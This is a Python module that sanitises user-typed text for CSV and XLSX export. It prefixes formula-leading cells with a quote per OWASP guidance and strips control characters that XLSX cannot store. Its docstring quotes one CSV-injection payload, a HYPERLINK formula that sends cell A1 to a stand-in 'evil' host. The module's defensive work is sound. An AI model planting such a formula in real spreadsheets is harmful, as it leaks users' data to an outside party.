"""Cell text that is safe to open in a spreadsheet (issue 11, item 3). Pure functions, no I/O.

Questions, comments and corrections are typed by users; an export that writes them as is lets a
comment such as ``=HYPERLINK("https://evil/?"&A1, "Click")`` run as a formula in the analyst's
Excel (OWASP "CSV injection"), and one BEL or ESC character makes openpyxl refuse the whole file.

* `neutralise_formula`: OWASP's guidance: a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab
  or a carriage return gets a leading single quote, so every spreadsheet reads it as text.
* `strip_control`: removes the control characters XML 1.0 (hence XLSX) cannot hold; tab, newline
  and carriage return stay.
* `restore_formula`: the inverse of `neutralise_formula`, for Docent reading its own CSV back
  (`docent finetune train` / `qa import` of a fine-tuning export), so training text is unchanged.

>>> neutralise_formula('=HYPERLINK("http://x")')
'\\'=HYPERLINK("http://x")'
>>> neutralise_formula("Fine answer")
'Fine answer'
>>> strip_control("bell\\x07 and esc\\x1b[31m")
'bell and esc[31m'
>>> restore_formula(neutralise_formula("-5 degrees?"))
'-5 degrees?'
"""

from __future__ import annotations

import re

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# XML 1.0 allows only tab, LF and CR below U+0020; U+FFFE/U+FFFF and lone surrogates are not characters.
_XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff]")


def neutralise_formula(text: str) -> str:
    """Prefix a formula-leading cell with a single quote (OWASP CSV injection guidance)."""
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def restore_formula(text: str) -> str:
    """Undo `neutralise_formula` (a quote followed by a trigger character loses the quote)."""
    return text[1:] if text.startswith("'") and text[1:].startswith(FORMULA_TRIGGERS) else text


def strip_control(text: str) -> str:
    """Remove characters XLSX cannot store (C0 controls except tab/LF/CR, non-characters, surrogates)."""
    return _XML_ILLEGAL.sub("", text)


def spreadsheet_cell(value: object) -> object:
    """A value ready for a CSV or XLSX cell: text cleaned and neutralised, anything else unchanged.

    A lone carriage return becomes a newline: CSV writers quote fields with newlines but not with a
    bare CR, which readers then take as the end of the row (one comment would forge a row).
    """
    if isinstance(value, str):
        return neutralise_formula(strip_control(value)).replace("\r\n", "\n").replace("\r", "\n")
    return value
